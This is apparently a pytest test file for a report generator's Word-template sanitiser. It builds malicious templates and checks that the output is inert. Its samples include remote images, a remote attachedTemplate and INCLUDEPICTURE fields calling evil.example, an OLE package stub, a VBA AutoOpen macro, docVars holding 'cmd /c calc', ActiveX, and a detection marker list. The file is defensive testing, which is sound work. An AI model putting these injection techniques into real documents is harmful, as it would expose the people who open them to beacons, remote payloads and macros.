"""Malicious Word templates (issue 19): a report rendered from any template fetches and runs nothing.

Each template is real-shaped: a python-docx document with a letterhead picture in its header (an internal
image), into which the parts Word and attackers write are injected as Word writes them.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import pytest
from conftest import BUSY, example_dict, report_of
from docx import Document
from helpers import SOFFICE, run_cli, soffice_convert

from generator.render import render
from generator.render.template_safety import sanitise

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example/"


def png(width: int = 4, height: int = 2) -> bytes:
    """A small red PNG (the letterhead picture)."""
    raw = b"".join(b"\x00" + b"\xe0\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def letterhead_template() -> dict[str, bytes]:
    """A template's parts: a header holding the letterhead picture and the agency's name."""
    doc = Document()
    paragraph = doc.sections[0].header.paragraphs[0]
    paragraph.add_run().add_picture(io.BytesIO(png()))
    paragraph.add_run("青石街道办事处")
    out = io.BytesIO()
    doc.save(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def header_name(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))


def add_rel(parts: dict[str, bytes], part: str, rid: str, kind: str, target: str, external: bool = False) -> None:
    folder, base = part.rsplit("/", 1)
    rels = f"{folder}/_rels/{base}.rels"
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    if rels not in parts:
        parts[rels] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        )
    parts[rels] = parts[rels].replace(b"</Relationships>", entry + b"</Relationships>")


def add_type(parts: dict[str, bytes], entry: str) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", entry.encode() + b"</Types>")


def in_header(parts: dict[str, bytes], xml: str) -> None:
    """Append a paragraph with ``xml`` (runs) to the header (python-docx declares w, r, v and o there)."""
    name = header_name(parts)
    parts[name] = parts[name].replace(b"</w:hdr>", f"<w:p>{xml}</w:p></w:hdr>".encode())


def remote_header_image(parts):
    add_rel(parts, header_name(parts), "rIdRemote", f"{R}/image", EVIL + "beacon.png", external=True)
    in_header(
        parts,
        '<w:r><w:pict><v:shape id="s9" style="width:10pt;height:10pt">'
        '<v:imagedata r:id="rIdRemote"/></v:shape></w:pict></w:r>',
    )


def remote_attached_template(parts):
    add_rel(parts, "word/settings.xml", "rIdTpl", f"{R}/attachedTemplate", EVIL + "payload.dotm", external=True)
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', parts["word/settings.xml"], count=1
    )


def ole_package_in_header(parts):
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ\x90\x00 setup.exe" * 40
    add_rel(parts, header_name(parts), "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
    add_type(parts, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')
    in_header(
        parts,
        '<w:r><w:object><v:shape id="o1" style="width:40pt;height:40pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" DrawAspect="Icon" ObjectID="_1"'
        ' r:id="rIdOle"/></w:object></w:r>',
    )


def dotm_with_macros(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell \"calc.exe\" End Sub"
    parts["word/vbaData.xml"] = (
        b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    add_rel(
        parts,
        "word/document.xml",
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    add_rel(
        parts,
        "word/vbaProject.bin",
        "rIdData",
        "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
        "vbaData.xml",
    )
    add_type(
        parts,
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
    )


def custom_xml(parts):
    parts["customXml/item1.xml"] = b'<?xml version="1.0"?><secret xmlns="urn:x">tracking-id-42</secret>'
    parts["customXml/itemProps1.xml"] = (
        b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" '
        b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>'
    )
    add_rel(parts, "customXml/item1.xml", "rId1", f"{R}/customXmlProps", "itemProps1.xml")
    add_rel(parts, "word/document.xml", "rIdCx", f"{R}/customXml", "../customXml/item1.xml")
    add_type(
        parts,
        '<Override PartName="/customXml/itemProps1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>',
    )


def document_variables(parts):
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:docVars><w:docVar w:name="payload" w:val="cmd /c calc"/></w:docVars></w:settings>'
    )


def activex_and_links(parts):
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    )
    add_rel(parts, header_name(parts), "rIdAx", f"{R}/control", "activeX/activeX1.xml")
    add_rel(parts, header_name(parts), "rIdLink", f"{R}/hyperlink", EVIL + "phish", external=True)
    add_type(
        parts, '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
    )
    in_header(
        parts,
        '<w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1"/></w:object></w:r>'
        '<w:hyperlink r:id="rIdLink"><w:r><w:t>官网</w:t></w:r></w:hyperlink>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d ">'
        '<w:r><w:t>图</w:t></w:r></w:fldSimple>'
        # a field code split over runs, as Word writes it after an edit
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPIC</w:instrText></w:r>'
        '<w:r><w:instrText>TURE "http://evil.example/split.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>章</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )


ATTACKS = {
    "remote header image": remote_header_image,
    "remote attachedTemplate": remote_attached_template,
    "OLE package with an .exe": ole_package_in_header,
    ".dotm with vbaProject.bin": dotm_with_macros,
    "customXml": custom_xml,
    "docVars": document_variables,
    "ActiveX, hyperlink, INCLUDEPICTURE": activex_and_links,
}


def template(tmp_path, *attacks, suffix=".docx"):
    parts = letterhead_template()
    for attack in attacks:
        attack(parts)
    path = tmp_path / f"模板{suffix}"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def assert_inert(docx: bytes) -> None:
    """Nothing that fetches or runs; the letterhead picture is there and shown."""
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        names = package.namelist()
        xml = {n: package.read(n).decode("utf-8") for n in names if n.endswith((".xml", ".rels"))}
    assert not [n for n in names if re.search(r"embeddings/|activeX/|vba|customXml/", n, re.I)], names
    assert not [n for n, text in xml.items() if 'TargetMode="External"' in text]
    everything = "\n".join(xml.values())
    for marker in (
        "w:object",
        "OLEObject",
        "w:control",
        "w:docVars",
        "attachedTemplate",
        "macroEnabled",
        "oleObject",
        "vbaProject",
        "INCLUDEPICTURE",
        "evil.example",
        "w:altChunk",
    ):
        assert marker not in everything, marker
    media = [n for n in names if n.startswith("word/media/")]
    assert media, "the letterhead picture was kept"
    headers = [text for n, text in xml.items() if re.fullmatch(r"word/header\d*\.xml", n)]
    assert any("r:embed" in h and "青石街道办事处" in h for h in headers)


@pytest.mark.parametrize("attack", ATTACKS, ids=list(ATTACKS))
def test_each_malicious_template_renders_inert(tmp_path, attack):
    docx = render(report_of(example_dict(BUSY)), "docx", template(tmp_path, ATTACKS[attack]))
    assert_inert(docx)


def test_sanitise_names_every_removed_kind_and_keeps_a_clean_template_as_it_is(tmp_path):
    clean = template(tmp_path).read_bytes()  # python-docx's package holds a customXml part, as Word's do
    data, removed = sanitise(clean)
    assert not removed and list(removed.quiet) == ["自定义 XML 数据（customXml）"]  # Word's bibliography: quietly
    with zipfile.ZipFile(io.BytesIO(clean)) as before, zipfile.ZipFile(io.BytesIO(data)) as after:
        kept = [n for n in before.namelist() if not n.startswith("customXml/")]
        assert after.namelist() == kept
        assert all(before.read(n) == after.read(n) for n in kept if not n.endswith((".rels", "Types].xml")))
    _, removed = sanitise(template(tmp_path, *ATTACKS.values()).read_bytes())
    assert set(removed.kinds) >= {
        "远程图片",
        "外部模板（attachedTemplate）",
        "嵌入的 OLE 对象",
        "宏（VBA）",
        "自定义 XML 数据（customXml）",
        "文档变量（docVars）",
        "ActiveX 控件",
        "超链接",
        "取外部内容的域",
    }
    assert EVIL + "payload.dotm" in removed.addresses


COVER_PAGE = b"http://schemas.microsoft.com/office/2006/coverPageProps"
CORE = b"http://schemas.openxmlformats.org/package/2006/metadata/core-properties"


def cover_page_bound_to_core_properties(parts):
    """Word's cover page: a coverPageProps store and a title content control bound to the core properties."""
    parts["customXml/item2.xml"] = (
        b'<?xml version="1.0"?><CoverPageProperties xmlns="' + COVER_PAGE + b'">'
        b"<PublishDate>2026-01-20</PublishDate><Abstract/></CoverPageProperties>"
    )
    parts["customXml/itemProps2.xml"] = (
        b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{55AF091B}" '
        b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml">'
        b'<ds:schemaRefs><ds:schemaRef ds:uri="' + COVER_PAGE + b'"/></ds:schemaRefs>'
        b"</ds:datastoreItem>"
    )
    add_rel(parts, "customXml/item2.xml", "rId1", f"{R}/customXmlProps", "itemProps2.xml")
    add_rel(parts, "word/document.xml", "rIdCp", f"{R}/customXml", "../customXml/item2.xml")
    binding = (
        b'<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings="xmlns:ns0=\'' + CORE + b'\' " '
        b'w:xpath="/ns0:coreProperties[1]/ns1:title[1]" w:storeItemID="{6C3C8BC8}"/></w:sdtPr>'
        b"<w:sdtContent><w:p><w:r><w:t>\xe5\xb9\xb4\xe6\x8a\xa5</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", binding + b"<w:sectPr", 1)


def bibliography_with_an_address(parts):
    parts["customXml/item1.xml"] = (
        b'<?xml version="1.0"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/bibliography"><b:Source><b:URL>http://evil.example/t.gif'
        b"</b:URL></b:Source></b:Sources>"
    )


@pytest.mark.parametrize(
    ("attacks", "loud"),
    [
        ((), False),
        ((cover_page_bound_to_core_properties,), False),
        ((custom_xml,), True),  # a store of an unknown schema: hidden data
        ((bibliography_with_an_address,), True),
    ],
    ids=[
        "python-docx bibliography",
        "cover page and a title bound to the core properties",
        "unknown store",
        "bibliography holding an address",
    ],
)
def test_word_s_own_custom_xml_is_removed_quietly_any_other_is_named(tmp_path, attacks, loud):
    data, removed = sanitise(template(tmp_path, *attacks).read_bytes())
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not [n for n in package.namelist() if n.startswith("customXml/")]
        assert b"dataBinding" not in package.read("word/document.xml")
    assert ("自定义 XML 数据（customXml）" in removed.kinds) is loud
    assert bool(removed) is loud


def test_render_with_a_clean_word_template_gives_no_reminder(tmp_path):
    path = template(tmp_path, cover_page_bound_to_core_properties)
    result = run_cli("render", BUSY, "-o", tmp_path / "out", "--to", "docx", "--template", path)
    assert result.code == 0, result.err
    assert "提醒：模板文件" not in result.out + result.err
    assert_inert(next((tmp_path / "out").glob("*.docx")).read_bytes())


def test_render_command_names_what_it_removed_once(tmp_path):
    path = template(tmp_path, *ATTACKS.values(), suffix=".dotm")
    result = run_cli("render", BUSY, BUSY, "-o", tmp_path / "out", "--to", "docx,html", "--template", path, "--force")
    assert result.code == 0, result.err
    assert result.out.count("提醒：模板文件 模板.dotm") == 1
    for kind in ("远程图片", "外部模板（attachedTemplate）", "嵌入的 OLE 对象", "宏（VBA）", "文档变量（docVars）"):
        assert kind in result.out
    assert "Warning" not in result.err and "Traceback" not in result.err
    docx = next((tmp_path / "out").glob("*.docx"))
    assert_inert(docx.read_bytes())


@pytest.mark.libreoffice
@pytest.mark.skipif(not SOFFICE, reason="LibreOffice 未安装")
def test_report_from_the_worst_template_still_opens_in_libreoffice(tmp_path):
    out = tmp_path / "report.docx"
    out.write_bytes(render(report_of(example_dict(BUSY)), "docx", template(tmp_path, *ATTACKS.values())))
    soffice_convert("pdf", out, outdir=tmp_path / "pdf")
    pdf = tmp_path / "pdf" / "report.pdf"
    assert pdf.exists() and pdf.stat().st_size > 10_000
